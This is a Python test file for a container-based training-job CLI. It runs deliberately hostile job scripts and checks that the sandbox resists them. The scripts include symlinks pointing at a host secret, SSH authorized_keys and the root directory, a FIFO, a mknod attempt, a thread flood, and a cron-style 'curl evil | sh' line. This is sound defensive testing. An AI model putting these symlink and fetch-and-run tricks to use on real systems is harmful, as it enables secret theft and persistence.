"""A training job written by an attacker, run for real: whatever it plants in its run
directory, the CLI (root) neither follows nor prints, and the host stays as it was."""

from __future__ import annotations

import json
from pathlib import Path

import zstandard

from reprise.commands import build as builder

from .conftest import Host, run_cli


def _run(example: Path, host: Host, script: str, *extra: str) -> tuple[int, dict[str, object], str]:
    code, out, err = run_cli(
        "--project",
        str(example),
        "run",
        "--json",
        *extra,
        "--",
        "python",
        "-c",
        script,
        env={"REPRISE_RUNS_DIR": str(host.runs)},
    )
    assert "Traceback" not in err, err
    return code, json.loads(out), err


def test_links_and_fifos_the_job_plants_are_named_never_followed(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    secret, keys = str(host.secret), str(host.authorized_keys)
    script = f"""
import json, os
run = "/workspace/run"
try:
    os.remove(run + "/logs/run.log")
    print("removed run.log")
except OSError as exc:
    print("run.log is not mine to remove:", exc.errno)
os.symlink({secret!r}, run + "/runtime/runtime.json")
os.symlink({secret!r}, run + "/logs/metrics.jsonl")
os.makedirs(run + "/outputs", exist_ok=True)
os.symlink({secret!r}, run + "/outputs/secret.json")
os.symlink({keys!r}, run + "/checkpoints/authorized_keys")
os.symlink("/", run + "/checkpoints/root")
os.mkfifo(run + "/outputs/pipe")
deep = run + "/outputs/deep"
for _ in range(300):
    deep += "/d"
os.makedirs(deep)
open(run + "/outputs/real.txt", "w").write("ok\\n")
print("* * * * * root curl evil | sh")
"""
    code, record, err = _run(example, host, script)
    assert code == 0, err
    run_dir = host.runs / "spiral" / str(record["run_id"])
    log = (run_dir / "logs/run.log").read_text()
    assert "run.log is not mine to remove: 1" in log  # the sticky, root-owned logs/ held
    assert not (run_dir / "logs/run.log").is_symlink()
    assert record["runtime"] is None
    warnings = "\n".join(record["warnings"])  # type: ignore[arg-type]
    assert "runtime/runtime.json is a symlink made by the job: not read" in warnings
    manifest = {e["path"]: e for e in json.loads((run_dir / "manifest.json").read_text())["files"]}
    assert manifest["outputs/secret.json"]["kind"] == "symlink"
    assert manifest["outputs/secret.json"]["target"] == secret
    assert manifest["logs/metrics.jsonl"]["kind"] == "symlink"
    assert manifest["checkpoints/root"]["kind"] == "symlink"
    assert manifest["outputs/pipe"]["kind"] == "fifo"
    assert any(e["kind"] == "dir-too-deep" for e in manifest.values())
    assert "kind" not in manifest["outputs/real.txt"]  # a regular file
    shown = run_cli("show", str(run_dir), "--json")[1] + run_cli("show", str(run_dir))[1]
    card = (run_dir / "model_card.md").read_text()
    for text in (shown, card):
        assert "hunter2" not in text and "owner" not in text
    bundle = host.runs.parent / "out.reprise"
    code, _, err = run_cli(
        "--project",
        str(example),
        "bundle",
        "export",
        str(run_dir),
        "-o",
        str(bundle),
        "--with-outputs",
    )
    assert code == 0, err
    with bundle.open("rb") as fh, zstandard.ZstdDecompressor().stream_reader(fh) as stream:
        raw = stream.read()
    assert b"hunter2" not in raw and b"ssh-ed25519" not in raw
    bundle.unlink()


def test_the_job_has_no_privileges_and_bounded_processes(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    script = """
import os, threading, time
status = open("/proc/self/status").read()
print([l for l in status.splitlines() if l.startswith(("CapEff", "NoNewPrivs"))])
try:
    os.mknod("/workspace/run/outputs/dev", 0o600 | 0o020000, os.makedev(1, 3))
    print("mknod worked")
except OSError as exc:
    print("mknod refused", exc.errno)
threads = []
try:
    for _ in range(200):
        t = threading.Thread(target=time.sleep, args=(5,))
        t.start()
        threads.append(t)
    print("started all")
except RuntimeError as exc:
    print("pids limit after", len(threads))
"""
    code, record, err = _run(example, host, script, "--pids-limit", "48")
    assert code == 0, err
    log = (host.runs / "spiral" / str(record["run_id"]) / "logs/run.log").read_text()
    assert "'CapEff:\\t0000000000000000'" in log and "'NoNewPrivs:\\t1'" in log
    assert "mknod refused 1" in log
    assert "pids limit after" in log and "started all" not in log
    container = record["container"]
    assert isinstance(container, dict)
    assert container["pids_limit"] == 48
    assert container["security"] == {
        "network": "none",
        "no_new_privileges": True,
        "cap_drop": ["ALL"],
    }


def test_a_job_cannot_reach_the_run_record(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    script = """
import os
for path in ("/workspace/run/run.json", "/workspace/run/manifest.json", "/workspace/run/x"):
    try:
        open(path, "w").write("{}")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, exc.errno)
print(sorted(os.listdir("/workspace/run")))
"""
    code, record, err = _run(example, host, script)
    assert code == 0, err
    log = (host.runs / "spiral" / str(record["run_id"]) / "logs/run.log").read_text()
    assert "WROTE" not in log
    assert "['checkpoints', 'config.yaml', 'logs', 'outputs', 'runtime']" in log


def test_same_second_runs_list_newest_first(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    env = {"REPRISE_RUNS_DIR": str(host.runs)}
    ids = []
    for _ in range(3):
        code, out, err = run_cli(
            "--project", str(example), "run", "--detach", "--json", "--", "true", env=env
        )
        assert code == 0, err
        ids.append(json.loads(out)["run_id"])
    code, out, _ = run_cli("--project", str(example), "ls", "--json", env=env)
    listed = [r["run_id"] for r in json.loads(out)]
    assert listed[:3] == ids[::-1]
    for run_id in ids:
        assert run_cli("--project", str(example), "wait", run_id, env=env)[0] == 0
